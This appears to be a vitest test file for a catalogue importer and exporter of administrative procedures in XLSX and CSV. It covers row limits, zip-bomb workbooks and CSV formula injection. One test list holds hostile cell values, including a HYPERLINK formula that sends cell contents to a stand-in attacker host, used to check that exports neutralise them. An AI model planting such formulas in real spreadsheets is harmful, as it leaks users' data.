import ExcelJS from 'exceljs'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { AppError } from '../../../platform/errors.ts'
import { fullContent } from './catalogue-fixtures.ts'
import { cellText, detectKind, MAX_COLUMNS, MAX_ROWS, readCatalogueFile, writeCatalogueCsv, writeCatalogueXlsx } from './catalogue-files.ts'
import { contentToRow, HEADERS, parseCatalogueRows } from './catalogue-rows.ts'
import { streamedWorkbook, zipBombWorkbook } from './catalogue-test-files.ts'

async function workbook(rows: unknown[][]): Promise<Buffer> {
  const book = new ExcelJS.Workbook()
  const sheet = book.addWorksheet('Sheet1')
  for (const row of rows) sheet.addRow(row)
  return Buffer.from(await book.xlsx.writeBuffer())
}

const fileError = async (promise: Promise<unknown>) => {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  )
  expect(error).toBeInstanceOf(AppError)
  return (error as AppError).code
}

describe('catalogue files', () => {
  it('writes XLSX and CSV that read back to the same rows', async () => {
    const rows = [contentToRow(fullContent(), '2025-07-01'), contentToRow(fullContent({ nationalCode: null, name: 'Không mã', variants: [] }), '2026-01-01')]
    for (const [file, kind] of [
      [await writeCatalogueXlsx(rows), 'xlsx'],
      [writeCatalogueCsv(rows), 'csv'],
    ] as const) {
      expect(detectKind(file)).toBe(kind)
      const table = await readCatalogueFile(file, kind)
      expect(table.headers).toEqual(HEADERS)
      expect(table.rows).toEqual(rows)
      const parsed = parseCatalogueRows(table.rows, { headers: table.headers, rowNumbers: table.rowNumbers })
      expect(parsed.errors).toEqual([])
      expect(parsed.items.map((i) => i.content)).toEqual([fullContent(), fullContent({ nationalCode: null, name: 'Không mã', variants: [] })])
      expect(parsed.items.map((i) => i.row)).toEqual(kind === 'xlsx' ? [3, 4] : [2, 3])
    }
  })

  it('turns numbers, dates, times, booleans, rich text, links and formulas into text', async () => {
    expect(cellText(3)).toBe('3')
    expect(cellText(0.1 + 0.2)).toBe('0.3')
    expect(cellText(new Date(Date.UTC(2025, 6, 1)))).toBe('2025-07-01')
    expect(cellText(new Date(Date.UTC(1899, 11, 30, 15, 0)))).toBe('15:00')
    expect(cellText(true)).toBe('yes')
    expect(cellText({ richText: [{ text: 'Thủ ' }, { text: 'tục' }] })).toBe('Thủ tục')
    expect(cellText({ text: 'Cổng', hyperlink: 'https://dichvucong.gov.vn' })).toBe('Cổng')
    expect(cellText({ formula: '1+2', result: 3 })).toBe('3')
    expect(cellText(null)).toBe('')

    const file = await workbook([
      ['name', 'field_name', 'levels', 'online_level', 'effective_from', 'cutoff', 'time_limit_value', 'time_limit_unit', 'return_by_post'],
      [{ richText: [{ text: 'Đăng ký ' }, { text: 'khai sinh', font: { bold: true } }] }, 'Hộ tịch', 'commune', 'full', new Date(Date.UTC(2025, 6, 1)), new Date(Date.UTC(1899, 11, 30, 15, 0)), 3, 'working_days', true],
      [],
      ['Chứng thực', 'Chứng thực', 'commune', 'none', '2025-07-01', '', { formula: '1+2', result: 3 }, 'working_days', false],
    ])
    const table = await readCatalogueFile(file, 'xlsx')
    expect(table.rowNumbers).toEqual([2, 4])
    const parsed = parseCatalogueRows(table.rows, { headers: table.headers, rowNumbers: table.rowNumbers })
    expect(parsed.errors).toEqual([])
    expect(parsed.items[0]).toMatchObject({ row: 2, effectiveFrom: '2025-07-01', content: { name: 'Đăng ký khai sinh', timeLimit: { value: 3, unit: 'working_days', cutoff: '15:00' }, returnByPost: true } })
    expect(parsed.items[1]).toMatchObject({ row: 4, content: { timeLimit: { value: 3 }, returnByPost: false } })
  })

  it('refuses what is not a workbook or UTF-8 text, whatever it is sent as', async () => {
    const zipWithoutWorkbook = await (async () => {
      const file = await workbook([['name']])
      // Rename the workbook part inside the ZIP (same length): no longer an XLSX.
      return Buffer.from(file.toString('latin1').replaceAll('xl/workbook.xml', 'xl/workbook.xmm'), 'latin1')
    })()
    expect(detectKind(zipWithoutWorkbook)).toBeNull()
    expect(detectKind(Buffer.from([0xff, 0xfe, 0x41, 0x00]))).toBeNull() // UTF-16
    expect(detectKind(Buffer.from('name\nA', 'latin1'))).toBe('csv')
    expect(await fileError(readCatalogueFile(zipWithoutWorkbook, 'xlsx'))).toBe('import.invalid_file')
    expect(await fileError(readCatalogueFile(Buffer.from('Tên;Lĩnh vực', 'utf16le'), 'csv'))).toBe('import.invalid_file')
    expect(await fileError(readCatalogueFile(Buffer.from('"unclosed,quote\n'), 'csv'))).toBe('import.invalid_file')
    expect(await fileError(readCatalogueFile(Buffer.alloc(0)))).toBe('import.invalid_file')
  })

  it('refuses more rows than one import takes', async () => {
    const lines = ['name', ...Array.from({ length: MAX_ROWS + 1 }, (_, i) => `T${i}`)]
    expect(await fileError(readCatalogueFile(Buffer.from(lines.join('\n')), 'csv'))).toBe('import.invalid_file')
    const ok = await readCatalogueFile(Buffer.from(lines.slice(0, MAX_ROWS + 1).join('\n')), 'csv')
    expect(ok.rows).toHaveLength(MAX_ROWS)
  })

  it('drops empty cells past the column limit and refuses values there', async () => {
    const wide = await readCatalogueFile(Buffer.from(`name,field_name${','.repeat(50_000)}\nA,B${','.repeat(50_000)}\n`), 'csv')
    expect(wide.headers).toHaveLength(MAX_COLUMNS)
    expect(wide.rows[0]).toMatchObject({ name: 'A', field_name: 'B' })
    const error = await readCatalogueFile(Buffer.from(`name\nA${','.repeat(MAX_COLUMNS)}x\n`), 'csv').catch((e: unknown) => e)
    expect((error as AppError).detail?.en).toContain(`column ${MAX_COLUMNS}`)
  })

  it('reads a streamed workbook (inline strings) and stops at the row limit', async () => {
    const ok = await readCatalogueFile(await streamedWorkbook(3), 'xlsx')
    expect(ok).toMatchObject({ kind: 'xlsx', headers: ['name', 'field_name'], rowNumbers: [2, 3, 4], headerRow: 1 })
    expect(ok.rows[2]).toEqual({ name: 'T2', field_name: 'x' })
    const error = await readCatalogueFile(await streamedWorkbook(MAX_ROWS + 5), 'xlsx').catch((e: unknown) => e)
    expect(error).toBeInstanceOf(AppError)
    expect((error as AppError).detail?.en).toContain(`${MAX_ROWS}`)
  })

  it('refuses a workbook whose sheet inflates past the limit, whatever its headers declare', async () => {
    const bomb = await zipBombWorkbook(200) // 200 MiB of spaces after the sheet's XML
    const error = await readCatalogueFile(bomb, 'xlsx').catch((e: unknown) => e)
    expect(error).toBeInstanceOf(AppError)
    expect((error as AppError).code).toBe('import.invalid_file')
    expect((error as AppError).detail?.en).toContain('unpacks to more than')
  })
})

describe('formula injection', () => {
  // Values a spreadsheet would run as a formula, or that hide one (OWASP "CSV Injection").
  const hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"Bấm")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=already quoted", "''+twice", "'plain quote", 'Thủ tục = bình thường']
  const rows = hostile.map((value, i) => ({ ...contentToRow(fullContent({ nationalCode: `9.${i}` }), '2025-07-01'), name: value, time_limit_note: value }))

  it('prefixes CSV cells that start with = + - @ tab or CR with a quote, and reads its own export back', async () => {
    const file = writeCatalogueCsv(rows)
    const cells = (parse(file, { bom: true, relax_column_count: true }) as string[][]).slice(1)
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(cells.map((r) => r[HEADERS.indexOf('name')])).toEqual(hostile.map((v, i) => (i < 8 ? `'${v}` : v)))
    // Each neutralised cell is also wrapped in double quotes.
    expect(file.toString('utf8')).toContain(`"'+1+1"`)
    const table = await readCatalogueFile(file, 'csv')
    expect(table.rows).toEqual(rows)
  })

  it('keeps XLSX cells that start with = as plain text cells, never formulas', async () => {
    const file = await writeCatalogueXlsx(rows)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(file as unknown as ExcelJS.Buffer)
    const sheet = book.worksheets[0]!
    const column = HEADERS.indexOf('name') + 1
    const cell = sheet.getRow(3).getCell(column)
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.formula).toBeUndefined()
    expect(cell.value).toBe(hostile[0])
    expect(cell.numFmt).toBe('@')
    // XML turns a CR into a line feed; the importer normalises line ends anyway.
    const lf = (text: string) => text.replace(/\r\n?/g, '\n')
    expect((await readCatalogueFile(file, 'xlsx')).rows.map((r) => r.name)).toEqual(hostile.map(lf))
  })
})
